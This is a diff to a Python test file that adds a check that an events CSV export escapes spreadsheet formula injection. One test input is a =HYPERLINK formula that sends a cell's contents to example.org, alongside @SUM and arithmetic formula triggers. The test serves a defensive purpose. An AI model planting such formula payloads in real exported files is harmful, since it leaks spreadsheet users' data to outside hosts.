@@ -1,4 +1,5 @@
 import csv
+import dataclasses
 import io
 import json
 import re
@@ -27,6 +28,15 @@ def test_csv_and_geojson_carry_the_filtered_events(atlas):
     summit = next(f for f in collection["features"] if f["id"] == "E22")
     assert summit["geometry"]["coordinates"][0] == pytest.approx(44.51, abs=0.05)
     assert summit["properties"]["sources"][0]["url"].startswith("http")
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_prefixed(atlas):
+    event = dataclasses.replace(atlas.events[0], title='=HYPERLINK("https://example.org/?x="&A1,"open")',
+                                summary="@SUM(A1) and more", category="-1+1")
+    [row] = csv.DictReader(io.StringIO(events_csv([event])))
+    assert (row["title"], row["summary"], row["category"]) == (
+        '\'=HYPERLINK("https://example.org/?x="&A1,"open")', "'@SUM(A1) and more", "'-1+1")
+    assert row["id"] == event.id and not row["lat"].startswith("'")
 
 
 def test_standalone_map_needs_no_server_and_no_internet(atlas):
